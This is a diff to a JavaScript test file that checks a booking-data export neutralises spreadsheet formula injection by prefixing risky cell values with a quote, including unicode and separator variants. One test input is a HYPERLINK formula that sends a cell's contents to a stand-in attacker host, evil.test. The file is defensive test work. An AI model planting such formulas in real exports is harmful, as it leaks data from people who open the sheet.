@@ -79,19 +79,28 @@ test.each(['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines', '",\r\n"', '', ' x '
 )
 
 test.each([
-  '=1+1',
-  '=HYPERLINK("http://evil.test?x="&A1)',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
-])('a spreadsheet does not carry out %j, wherever it stands', (text) => {
+  ['=1+1', "'=1+1"],
+  ['=HYPERLINK("http://evil.test?x="&A1)', `'=HYPERLINK("http://evil.test?x="&A1)`],
+  ['+1', "'+1"],
+  ['-1', "'-1"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['＝1+1', "'＝1+1"],
+  ['﹢1', "'﹢1"],
+  ['  =1+1', "'  =1+1"],
+  ['\u00A0\u3000=1+1', "'\u00A0\u3000=1+1"],
+  ['\t=1+1', "\t'=1+1"],
+  ['\r=1+1', "\r'=1+1"],
+  ['\n=1+1', "\n'=1+1"],
+  ['Ada;=1+1', "Ada;'=1+1"],
+  ['Ada; =1+1;@A1', "Ada;' =1+1;'@A1"],
+  ['Ada\t+1', "Ada\t'+1"],
+  ['Ada,-1', "Ada,'-1"],
+  ['two\r\n＠lines', "two\r\n'＠lines"],
+  ['Ada;"=1+1;', `Ada;'"=1+1;`],
+  ['Ada; " " =1+1', `Ada;' " " =1+1`],
+])('a spreadsheet does not carry out %j, wherever it stands', (text, guarded) => {
   const change = { eventName: text, cancelReason: text, tracking: { utm_source: text } }
   const found = fields({ ...change, invitee: { ...BOOKING.invitee, name: text } })
-  const guarded = `'${text}`
   expect(found).toMatchObject({
     event: guarded,
     cancel_reason: guarded,
@@ -99,3 +108,10 @@ test.each([
     invitee_name: guarded,
   })
 })
+
+test.each(['a=b', '1+1', 'ada@example.test', 'Anna-Maria; Bo', '2027-03-01', 'x, y', 'https://a.test/?b=c'])(
+  '%j is no formula and stays as it is',
+  (text) => {
+    expect(fields({ eventName: text }).event).toBe(text)
+  },
+)
